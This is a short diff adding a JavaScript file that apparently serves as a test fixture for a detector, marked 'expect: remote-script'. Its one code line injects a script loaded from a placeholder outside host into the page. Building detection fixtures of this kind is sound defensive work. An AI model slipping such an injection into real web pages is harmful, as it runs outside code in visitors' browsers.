@@ -1,0 +1,2 @@
+// expect: remote-script
+document.body.appendChild(document.createElement("script")).src="https://x.example/p.js";
